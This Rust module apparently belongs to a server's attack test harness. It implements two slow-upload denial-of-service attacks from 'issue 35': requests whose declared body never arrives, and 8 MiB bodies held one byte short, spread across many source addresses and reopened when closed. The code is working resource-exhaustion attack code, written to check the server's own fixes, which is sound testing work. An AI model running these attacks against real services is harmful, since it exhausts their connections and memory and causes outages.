//! The upload attacks of issue 35: requests whose body never comes (item 1) and large
//! bodies held unfinished (item 2), each from raw sockets that write a request head (and
//! part of a body) and then wait.

use super::{IO, Tally, addr, pause};
use crate::attack::raw::connect_from;
use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddrV4, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

/// One held request: its source address and, while open, its socket.
struct Held {
    from: Ipv4Addr,
    conn: Option<TcpStream>,
}

/// What happened to a held request since the last look: still waiting, answered (the
/// status line's code and the API's error code), or closed without an answer.
fn look(s: &mut TcpStream) -> Option<String> {
    let _ = s.set_nonblocking(true);
    let mut buf = [0u8; 4096];
    let r = s.read(&mut buf);
    let _ = s.set_nonblocking(false);
    match r {
        Err(e) if e.kind() == ErrorKind::WouldBlock => None,
        Ok(0) => Some("closed by the server".into()),
        Ok(n) => Some(answer(&buf[..n])),
        Err(_) => Some("closed by the server".into()),
    }
}

/// `answered 413 body_too_large` from the start of a response.
fn answer(data: &[u8]) -> String {
    let text = String::from_utf8_lossy(data);
    let status = text.split_whitespace().nth(1).unwrap_or("?").to_string();
    let code = text
        .split("\"error\":\"")
        .nth(1)
        .and_then(|r| r.split('"').next())
        .map(|c| format!(" {c}"))
        .unwrap_or_default();
    format!("answered {status}{code}")
}

/// Opens `held`'s request if it is not open: connects and writes `head`, then `body`
/// (64 KiB at a time). False when that failed (tallied).
fn open(
    held: &mut Held,
    server: SocketAddrV4,
    head: &[u8],
    body: usize,
    tally: &Tally,
    stop: &AtomicBool,
) -> bool {
    if held.conn.is_some() {
        return true;
    }
    let mut s = match connect_from(held.from, server, Duration::from_secs(3), None) {
        Ok(s) => s,
        Err(e) => {
            tally.io("connect", &e);
            return false;
        }
    };
    let _ = s.set_write_timeout(Some(IO));
    let _ = s.set_read_timeout(Some(Duration::from_millis(200)));
    let chunk = [b' '; 64 << 10];
    let mut sent = 0;
    let mut wrote = s.write_all(head);
    while wrote.is_ok() && sent < body && !stop.load(Ordering::Relaxed) {
        let n = chunk.len().min(body - sent);
        wrote = s.write_all(&chunk[..n]);
        sent += n;
    }
    if let Err(e) = wrote {
        // Refused before the body was sent: read the answer if it is there.
        let mut buf = [0u8; 4096];
        match s.read(&mut buf) {
            Ok(n) if n > 0 => tally.add(answer(&buf[..n])),
            _ => tally.io("upload", &e),
        }
        return false;
    }
    tally.add("request held open");
    held.conn = Some(s);
    true
}

/// Keeps every request of `held` open: opens those that are not, looks at the others
/// every second and tallies what the server did with them; `ready` after the first pass.
fn hold(
    mut held: Vec<Held>,
    server: SocketAddrV4,
    head: &[u8],
    body: usize,
    stop: &AtomicBool,
    ready: &AtomicBool,
    tally: &Tally,
) {
    while !stop.load(Ordering::Relaxed) {
        for h in &mut held {
            if stop.load(Ordering::Relaxed) {
                return;
            }
            if let Some(s) = h.conn.as_mut()
                && let Some(outcome) = look(s)
            {
                tally.add(outcome);
                h.conn = None;
            }
            open(h, server, head, body, tally, stop);
        }
        ready.store(true, Ordering::Relaxed);
        if !pause(stop, Duration::from_secs(1)) {
            break;
        }
    }
}

/// Issue 35 item 1: 16 addresses (4 with `--quick`), each of an address block of its
/// own, open 32 connections each (8 with `--quick`, whose server has 32 connections)
/// with `POST /v1/sessions` declaring a 64-byte body that never comes: before the
/// upload deadline and the eviction of stalled uploads they held every connection for
/// the 120 s request timeout. A closed one is opened again. In place after the first
/// pass.
pub(super) fn upload_hold(ctx: &super::Ctx, stop: &AtomicBool, ready: &AtomicBool, tally: &Tally) {
    let (addresses, per_address) = if ctx.quick { (4, 8) } else { (16, 32) };
    let held = (0..addresses)
        .flat_map(|a| (0..per_address).map(move |_| a))
        .map(|a| Held {
            from: addr(140 + a as u8, 1),
            conn: None,
        })
        .collect();
    let head = b"POST /v1/sessions HTTP/1.1\r\nhost: psi\r\ncontent-type: application/json\r\ncontent-length: 64\r\n\r\n";
    hold(held, ctx.server, head, 0, stop, ready, tally);
}

/// Issue 35 item 2: one address opens 32 connections (8 with `--quick`), each sending
/// `POST /v1/sessions` with an 8 MiB body all but its last byte, and holds them: before
/// the per-route limits the server buffered every byte (one address pinned 266 MB). A
/// closed or refused one is sent again. In place after the first pass.
pub(super) fn body_hold(ctx: &super::Ctx, stop: &AtomicBool, ready: &AtomicBool, tally: &Tally) {
    let connections = if ctx.quick { 8 } else { 32 };
    let body = 8 << 20;
    let held = (0..connections)
        .map(|_| Held {
            from: addr(150, 1),
            conn: None,
        })
        .collect();
    let head = format!(
        "POST /v1/sessions HTTP/1.1\r\nhost: psi\r\ncontent-type: application/json\r\ncontent-length: {body}\r\n\r\n"
    );
    hold(
        held,
        ctx.server,
        head.as_bytes(),
        body - 1,
        stop,
        ready,
        tally,
    );
}
